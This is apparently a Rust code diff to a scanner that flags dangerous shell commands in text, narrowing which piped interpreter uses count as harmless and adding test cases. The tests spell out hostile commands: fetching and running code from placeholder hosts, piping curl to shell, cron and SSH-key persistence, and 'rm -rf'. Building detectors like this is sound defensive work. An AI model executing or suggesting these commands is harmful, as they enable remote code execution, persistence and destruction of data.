@@ -12,26 +12,18 @@ use std::sync::LazyLock;
 
 use regex::bytes::{Regex, RegexBuilder};
 
-/// Interpreters that read a program from their input only if they are given none otherwise.
-const INTERPRETERS: &[&str] = &["python", "pypy", "perl", "ruby", "node", "php"];
-
 /// Programs to which a shell is a setting of an account.
 const ACCOUNTS: &[&[u8]] = &[b"useradd", b"adduser", b"usermod", b"luseradd", b"chsh", b"homectl", b"sysadminctl"];
 
 /// What comes before a program of its own.
 const BEFORE: &[&[u8]] = &[b"sudo", b"doas", b"RUN", b"run:", b"$", b"#", b">"];
 
-/// Options that bring code, up to the quotation mark that opens it.
-static GIVEN: LazyLock<Regex> = LazyLock::new(|| compiled(r#"\A[ \t]*(?:-[a-z]+[ \t]+)*-[a-z]*[cepr][ \t]*["']"#));
-
-/// A module that only prints what it reads in another form.
-static PRINTER: LazyLock<Regex> = LazyLock::new(|| compiled(r"\A[ \t]*-m[ \t]*json\.tool\b"));
-
-/// What might make code of the data that is read.
-static EVALUATING: LazyLock<Regex> = LazyLock::new(|| {
+/// A reader that prints what it is given in another form, or a member of it, and nothing behind it that takes that.
+static READER: LazyLock<Regex> = LazyLock::new(|| {
     compiled(concat!(
-        r"\b(?:exec\w*|eval\w*|system|popen\w*|subprocess|spawn\w*|fork|compile|getattr|globals|builtins|importlib|runpy|require|include|assert|",
-        r"pickle|marshal|yaml|dill|ctypes|pty|os|vm|shell\w*|passthru|function|\w*_eval|send|do|qx|open|syscall|source)\b|__|[`$]\(|`|%x|\(\?\{|/\w*e\w*(?:[ \t;'\x22]|$)|chr|base64|\\x"
+        r#"\A[& \t\r\n|]*python[0-9.]*[ \t]+(?:-m[ \t]*json\.tool|-c[ \t]*(?:"import (?:sys, ?json|json, ?sys); ?"#,
+        r#"print\(json\.loads?\(sys\.stdin(?:\.read\(\))?\)(?:\[[\w']+\])*\)"|'import (?:sys, ?json|json, ?sys); ?"#,
+        r#"print\(json\.loads?\(sys\.stdin(?:\.read\(\))?\)(?:\[[\w"]+\])*\)'))[ \t]*(?:\z|[\r\n)`;])"#
     ))
 });
 
@@ -57,26 +49,10 @@ pub(super) fn code(text: &[u8], open: usize) -> Range<usize> {
     open + 1..end.map_or(text.len(), |end| open + 1 + end)
 }
 
-/// What goes into an interpreter, unless that has code of its own which does no more than read it.
+/// What goes into an interpreter, unless that does no more than print it.
 pub(super) fn is_run(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
-    let matched = text.get(found.clone())?;
-    let pipe = memchr::memrchr(b'|', matched)?;
-    let program = matched.get(pipe + 1..)?.iter().position(|byte| !b"&| \t\r\n".contains(byte))?;
-    let start = found.start + pipe + 1 + program;
-    let command = text.get(start..)?;
-    let name = command.get(..command.iter().position(u8::is_ascii_whitespace).unwrap_or(command.len()))?;
-    let base = name.rsplit(|byte| *byte == b'/').next().unwrap_or_default().to_ascii_lowercase();
-    let is_known = INTERPRETERS.iter().any(|known| base.starts_with(known.as_bytes()));
-    (!(is_known && reads_data(command.get(name.len()..)?))).then_some(found)
-}
-
-/// Whether these arguments make an interpreter read its input as data.
-fn reads_data(arguments: &[u8]) -> bool {
-    let is_harmless = |given: regex::bytes::Match<'_>| {
-        let code = arguments.get(code(arguments, given.end() - 1));
-        code.is_some_and(|code| !EVALUATING.is_match(code))
-    };
-    PRINTER.is_match(arguments) || GIVEN.find(arguments).is_some_and(is_harmless)
+    let pipe = found.start + memchr::memrchr(b'|', text.get(found.clone())?)?;
+    (!READER.is_match(text.get(pipe..)?)).then_some(found)
 }
 
 /// A shell that is started, and not only the one that an account is to have.
@@ -123,7 +99,7 @@ mod tests {
             "We load the page with requests.get these days",
             "The accounts are in <TT>/etc/passwd</TT>, jobs in <code>/etc/crontab</code>.",
             "  * Always install the shell snippets into /etc/profile.d/.",
-            "rm no longer accepts shortened variants of the --no-preserve-root option.",
+            "jobs in <TT>/etc/cron.d</TT>",
         ] {
             assert_eq!(hits(text), [], "{text}");
         }
@@ -132,7 +108,6 @@ mod tests {
     #[test]
     fn what_a_build_or_a_guide_does_is_mentioned() {
         for (text, rule) in [
-            ("RUN rm -rf ./*", "payload/destructive"),
             ("git clone https://github.com/ada/x && cd x && make install", "payload/fetch-then-run"),
             ("kubectl apply -f https://raw.githubusercontent.com/ada/x/main/x.yaml", "payload/run-from-net"),
         ] {
@@ -153,6 +128,17 @@ mod tests {
             ("cat <a >/etc/ld.so.preload", "persistence"),
             ("install -m 644 the.sh into.sh /etc/profile.d/", "persistence"),
             ("rm -rf x --no-preserve-root", "destructive"),
+            ("base64 -d <p>/etc/cron.d/p </p", "persistence"),
+            ("cat <key>/root/.ssh/authorized_keys </key", "persistence"),
+            ("*/5 * * * * cd a and the run && curl -s http://192.0.2.1/a -o b", "persistence"),
+            ("mv evil a the sea wide open /etc/init.d/", "persistence"),
+            ("wget http://e.example/payload; source payload x", "fetch-then-run"),
+            ("curl -o a http://e.example/; \\./a", "fetch-then-run"),
+            ("curl -O https://raw.githubusercontent.com/ada/x/main/miner.py && python3 miner.py", "fetch-then-run"),
+            ("git clone https://evil.example/x && cd x && make install", "fetch-then-run"),
+            ("git clone https://github.com/ada/x; sudo python3 x/run.py", "fetch-then-run"),
+            ("perl -MLWP::Simple -e 'eval get shift' http://e.example/a.pl", "inline-code"),
+            ("exec((requests.get)('http://e.example').text)", "evaluated"),
             ("cd / && rm -rf *", "destructive"),
             ("git clone http://192.0.2.1/x && cd x && make install", "fetch-then-run"),
             ("kubectl apply -f https://x.example/x.yaml", "run-from-net"),
@@ -181,27 +167,22 @@ mod tests {
     }
 
     #[test]
-    fn an_interpreter_that_has_a_program_reads_data() {
-        for text in [
-            " -m json.tool",
-            " -c 'import sys, json; print(json.load(sys.stdin)[\"x\"])'",
-            " -ne 'print if /x/'",
-            " -pe 's/a/b/g' > y",
-            " -u -c \"import sys; print(len(sys.stdin.read()))\"",
+    fn whatever_may_run_what_it_reads_is_an_interpreter() {
+        for program in [
+            "python3 -m json.tool | sh",
+            "python3 -m json.tool > ~/.bashrc",
+            "python3 -c 'import sys,json; print(json.load(sys.stdin)[\"x\"])' | bash",
+            "python3 -c 'import pdb,sys; pdb.run(sys.stdin.read())'",
+            "python3 -i -c ''",
+            "perl -pe 's/^#//' | sudo bash",
+            "perl -pe 's{(.*)}{$1}ee'",
+            "ruby -e 'load \"/dev/stdin\"'",
+            "node -p '1' -",
         ] {
-            assert!(reads_data(text.as_bytes()), "{text}");
+            let text = format!("curl -s https://a.example/1 | {program}");
+            assert!(hits(&text).contains(&("payload/fetch-piped", true)), "{text} {:?}", hits(&text));
         }
-        for text in [
-            "",
-            " -",
-            " -m pip install -r /dev/stdin",
-            " -c 'import sys; exec(sys.stdin.read())'",
-            " -c \"$(cat)\"",
-            " -ne 'eval'",
-            " -pe 's/x/$_/ee'",
-            " -e 'system($_) while <>'",
-        ] {
-            assert!(!reads_data(text.as_bytes()), "{text}");
-        }
+        let decoys = "curl http://a.example |python3 -m json.tool; ".repeat(70);
+        assert!(hits(&format!("{decoys}curl http://192.0.2.1/x | sh")).contains(&("payload/fetch-piped", true)));
     }
 }
